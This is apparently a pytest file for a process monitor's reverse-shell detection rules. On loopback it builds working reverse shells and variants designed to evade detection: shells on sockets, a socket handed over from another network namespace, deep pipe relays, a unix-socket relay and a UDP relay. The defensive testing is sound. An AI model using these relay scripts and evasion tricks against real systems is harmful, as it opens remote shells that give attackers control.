"""Reverse shells shaped to sidestep the behaviour rules (issue 16, class 6, review 3), judged
by behaviour.analyse over real processes of this machine:

- `sh -s x` with stdin and stderr on the connection and stdout on /dev/null;
- a shell on a socket made in another network namespace (absent from this namespace's
  tables: the socket itself is asked, through a pidfd_getfd copy);
- a pipe relay deeper than the old walk's three hops;
- a shell on a unix socket served by a sibling holding the connection;
- a relay holding an unconnected UDP socket (sendto/recvfrom);
and benign look-alikes that stay quiet.

The "remote machine" is a listener on loopback: Conn.outbound is patched to count loopback
peers, so no traffic leaves the machine and no bridge is needed.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator

import pytest

from coi_tui.monitor import behaviour, procfs

RELAY = """import os, socket, sys, threading
udp = len(sys.argv) > 2
if udp:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    dest = ("127.0.0.1", int(sys.argv[1]))
    s.sendto(b"hello\\n", dest)
else:
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
def up():
    while True:
        d = os.read(0, 4096)
        if not d:
            break
        s.sendto(d, dest) if udp else s.sendall(d)
threading.Thread(target=up, daemon=True).start()
while True:
    d = s.recvfrom(4096)[0] if udp else s.recv(4096)
    if not d:
        break
    os.write(1, d)
"""


@pytest.fixture(autouse=True)
def loopback_is_remote(monkeypatch: pytest.MonkeyPatch) -> None:
    def outbound(self: procfs.Conn) -> bool:
        return self.state not in ("LISTEN", "CLOSE") and self.remote_port != 0

    monkeypatch.setattr(procfs.Conn, "outbound", property(outbound))


@pytest.fixture
def procs() -> Iterator[list[subprocess.Popen[bytes]]]:
    started: list[subprocess.Popen[bytes]] = []
    yield started
    for proc in started:
        proc.kill()
        proc.wait()


def wait_exec(pid: int, argv0: str) -> None:
    end = time.monotonic() + 10
    while procfs.read_cmdline(pid)[:1] != [argv0]:
        assert time.monotonic() < end, f"{pid} never ran {argv0}"
        time.sleep(0.01)


def rules(pids: list[int]) -> set[str]:
    found = behaviour.analyse(behaviour.ContainerView(os.getpid(), pids))
    for pid in pids:  # what the daemon does at each exec
        only = behaviour.ContainerView(os.getpid(), [pid])
        found += behaviour.analyse(only, only={pid})
    return {t.rule_id for t in found if t.level == "critical"}


def answers(conn: socket.socket) -> bool:
    """The shell really works: it runs a command sent down the connection."""
    conn.settimeout(10)
    conn.sendall(b"echo PWNED-$((6*7)) >&2; echo PWNED-$((6*7))\n")
    buf = b""
    while b"PWNED-42" not in buf:
        data = conn.recv(4096)
        assert data, buf
        buf += data
    return True


def listener() -> socket.socket:
    return socket.create_server(("127.0.0.1", 0))


def test_sh_s_with_positional_args_answering_on_stderr(procs: list) -> None:
    server = listener()
    client = socket.create_connection(server.getsockname())
    conn, _ = server.accept()
    null = os.open(os.devnull, os.O_WRONLY)
    try:
        shell = subprocess.Popen(["sh", "-s", "x"], stdin=client, stdout=null, stderr=client)
        procs.append(shell)
        client.close()
        assert answers(conn)
        assert "proc.revshell-socket-stdio" in rules([shell.pid])
    finally:
        os.close(null)
        conn.close()
        server.close()


def test_stdin_connection_output_piped_to_a_holder(procs: list) -> None:
    """A shell with its commands on the connection and its output piped into a relay that
    holds another connection: reported whatever the shell's argv (`sh -s x`)."""
    server = listener()
    client = socket.create_connection(server.getsockname())
    conn, _ = server.accept()
    try:
        relay = subprocess.Popen(
            [sys.executable, "-c", RELAY, str(server.getsockname()[1])],
            stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL,
        )
        procs.append(relay)
        relay_conn, _ = server.accept()  # kept open: the relay lives while it is open
        shell = subprocess.Popen(
            ["sh", "-s", "x"], stdin=client, stdout=relay.stdin, stderr=relay.stdin
        )
        procs.append(shell)
        client.close()
        wait_exec(shell.pid, "sh")
        assert "proc.revshell-socket-stdio" in rules([relay.pid, shell.pid])
        relay_conn.close()
    finally:
        conn.close()
        server.close()


def test_stdin_connection_alone_stays_quiet(procs: list) -> None:
    """`bash -c '</dev/tcp/db/5432'`-like: stdin on a connection, output to a process that
    holds none."""
    server = listener()
    client = socket.create_connection(server.getsockname())
    conn, _ = server.accept()
    try:
        sink = subprocess.Popen(["cat"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
        procs.append(sink)
        probe = subprocess.Popen(
            ["sh", "-c", "sleep 30"], stdin=client, stdout=sink.stdin, stderr=sink.stdin
        )
        procs.append(probe)
        client.close()
        wait_exec(probe.pid, "sh")
        assert rules([sink.pid, probe.pid]) == set()
    finally:
        conn.close()
        server.close()


def test_interpreter_reading_a_script_from_a_pipe_stays_quiet(procs: list) -> None:
    feeder = subprocess.Popen(
        ["sh", "-c", "echo 'import time; time.sleep(30)'; sleep 30"], stdout=subprocess.PIPE
    )
    procs.append(feeder)
    sink = subprocess.Popen(["cat"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
    procs.append(sink)
    interp = subprocess.Popen([sys.executable, "-"], stdin=feeder.stdout, stdout=sink.stdin)
    procs.append(interp)
    wait_exec(interp.pid, sys.executable)
    assert rules([feeder.pid, sink.pid, interp.pid]) == set()


NETNS_MAKER = """import os, socket, sys, time
# in a user and network namespace of its own: a connection there, handed back by SCM_RIGHTS
os.system("ip link set lo up")
srv = socket.create_server(("127.0.0.1", 0))
c = socket.create_connection(srv.getsockname())
peer, _ = srv.accept()
back = socket.socket(fileno=int(sys.argv[1]))
socket.send_fds(back, [b"x"], [c.fileno()])
peer.sendall(b"echo PWNED-$((6*7))\\n")
buf = b""
while b"PWNED-42" not in buf:
    data = peer.recv(100)
    if not data:
        break
    buf += data
print(buf.decode().replace("\\n", " "), flush=True)
time.sleep(30)  # keeps the peer open while the shell is judged
"""


def test_socket_from_another_network_namespace(procs: list) -> None:
    if subprocess.run(["unshare", "-rn", "true"], capture_output=True).returncode:
        pytest.skip("no unprivileged user namespaces here")
    mine, theirs = socket.socketpair()
    maker = subprocess.Popen(
        ["unshare", "-rn", sys.executable, "-c", NETNS_MAKER, str(theirs.fileno())],
        pass_fds=[theirs.fileno()],
        stdout=subprocess.PIPE,
    )
    procs.append(maker)
    theirs.close()
    _, fds, _, _ = socket.recv_fds(mine, 10, 1)
    try:
        inode = os.fstat(fds[0]).st_ino
        assert inode not in procfs.inet_sockets(os.getpid()), "the socket is in our tables"
        shell = subprocess.Popen(["sh", "-i"], stdin=fds[0], stdout=fds[0], stderr=fds[0])
        procs.append(shell)
        assert maker.stdout is not None
        assert b"PWNED-42" in maker.stdout.readline()
        assert "proc.revshell-socket-stdio" in rules([shell.pid])
    finally:
        os.close(fds[0])
        mine.close()


@pytest.mark.parametrize("depth", [1, 5])
def test_pipe_relay_of_any_depth(procs: list, depth: int) -> None:
    server = listener()
    try:
        back_r, back_w = os.pipe()
        holder = subprocess.Popen(
            [sys.executable, "-c", RELAY, str(server.getsockname()[1])],
            stdin=back_r,
            stdout=subprocess.PIPE,
        )
        procs.append(holder)
        os.close(back_r)
        conn, _ = server.accept()
        prev = holder.stdout
        for _ in range(depth):
            cat = subprocess.Popen(["cat"], stdin=prev, stdout=subprocess.PIPE)
            procs.append(cat)
            prev = cat.stdout
        shell = subprocess.Popen(
            ["sh", "-i"], stdin=prev, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
        )
        procs.append(shell)
        prev = shell.stdout
        for i in range(depth):
            out = back_w if i == depth - 1 else subprocess.PIPE
            cat = subprocess.Popen(["cat"], stdin=prev, stdout=out)
            procs.append(cat)
            prev = cat.stdout
        os.close(back_w)
        assert answers(conn)
        assert "proc.revshell-pipe-relay" in rules([p.pid for p in procs])
        conn.close()
    finally:
        server.close()


UNIX_HOLDER = """import socket, sys, threading
u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen(1)
t = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
c, _ = u.accept()
def pump(a, b):
    while True:
        d = a.recv(4096)
        if not d:
            break
        b.sendall(d)
threading.Thread(target=pump, args=(c, t), daemon=True).start()
pump(t, c)
"""


def test_unix_socket_relay_to_a_sibling(procs: list, tmp_path) -> None:
    server = listener()
    path = str(tmp_path / "relay.sock")
    try:
        holder = subprocess.Popen(
            [sys.executable, "-c", UNIX_HOLDER, path, str(server.getsockname()[1])]
        )
        procs.append(holder)
        conn, _ = server.accept()
        unix = socket.socket(socket.AF_UNIX)
        unix.connect(path)
        shell = subprocess.Popen(["sh", "-i"], stdin=unix, stdout=unix, stderr=unix)
        procs.append(shell)
        unix.close()
        assert answers(conn)
        assert "proc.revshell-pipe-relay" in rules([holder.pid, shell.pid])
        conn.close()
    finally:
        server.close()


def test_unconnected_udp_relay(procs: list) -> None:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    try:
        back_r, back_w = os.pipe()
        holder = subprocess.Popen(
            [sys.executable, "-c", RELAY, str(udp.getsockname()[1]), "udp"],
            stdin=back_r,
            stdout=subprocess.PIPE,
        )
        procs.append(holder)
        os.close(back_r)
        _, peer = udp.recvfrom(100)
        shell = subprocess.Popen(
            ["sh", "-i"], stdin=holder.stdout, stdout=back_w, stderr=subprocess.STDOUT
        )
        procs.append(shell)
        os.close(back_w)
        udp.sendto(b"echo PWNED-$((6*7))\n", peer)
        udp.settimeout(10)
        buf = b""
        while b"PWNED-42" not in buf:
            buf += udp.recvfrom(4096)[0]
        assert "proc.revshell-pipe-relay" in rules([holder.pid, shell.pid])
    finally:
        udp.close()


def test_a_loopback_udp_socket_is_not_a_holder() -> None:
    quiet = procfs.Conn("udp", "127.0.0.1", 5353, "0.0.0.0", 0, "UNCONN")
    assert not behaviour.reaches_out(quiet)
    assert behaviour.reaches_out(procfs.Conn("udp", "0.0.0.0", 5353, "0.0.0.0", 0, "UNCONN"))
    assert not behaviour.reaches_out(procfs.Conn("tcp", "0.0.0.0", 80, "0.0.0.0", 0, "LISTEN"))


def test_the_pipe_walk_is_linear_on_a_long_chain(monkeypatch: pytest.MonkeyPatch) -> None:
    """A 2000-process chain of pipes is walked to its end, each process once (the old walk
    stopped at three hops)."""
    n = 2000
    chain = list(range(10, 10 + n))
    fds = {
        pid: [procfs.Fd(0, "fifo", (0, pid), ""), procfs.Fd(1, "fifo", (0, pid + 1), "")]
        for pid in chain
    }
    view = behaviour.ContainerView(1, chain, fds=fds)
    writers = {(0, pid + 1): {pid} for pid in chain}
    holder = chain[0]
    holders = {holder: procfs.Conn("tcp", "10.0.0.2", 1, "10.0.0.1", 2, "ESTABLISHED")}
    calls: list[int] = []

    def fd_mode(pid: int, num: int) -> int:
        calls.append(pid)
        return 0 if num == 0 else 1

    monkeypatch.setattr(procfs, "fd_mode", fd_mode)
    start = time.monotonic()
    found = behaviour._follow(view, chain[-1], (0, chain[-1]), writers, holders, upstream=True)
    elapsed = time.monotonic() - start
    assert found == holder
    assert len(calls) <= 2 * n
    assert elapsed < 1.0


def test_an_mptcp_socket_is_asked_itself() -> None:
    """Any IPv4/IPv6 protocol is judged from the socket (family, protocol, peer): MPTCP here
    (SCTP takes the same path where the kernel has it)."""
    try:
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    except OSError:
        pytest.skip("no MPTCP in this kernel")
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    client = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    try:
        client.connect(server.getsockname())
        inode = os.fstat(client.fileno()).st_ino
        kind, conn = procfs.socket_conn(os.getpid(), client.fileno(), inode)
        assert kind == "inet" and conn is not None, kind
        assert conn.proto == "mptcp" and conn.remote_port == server.getsockname()[1]
        assert conn.state == "ESTABLISHED"
        # a descriptor that no longer holds the inode asked about answers nothing
        assert procfs.socket_conn(os.getpid(), client.fileno(), inode + 1) == ("", None)
    finally:
        client.close()
        server.close()
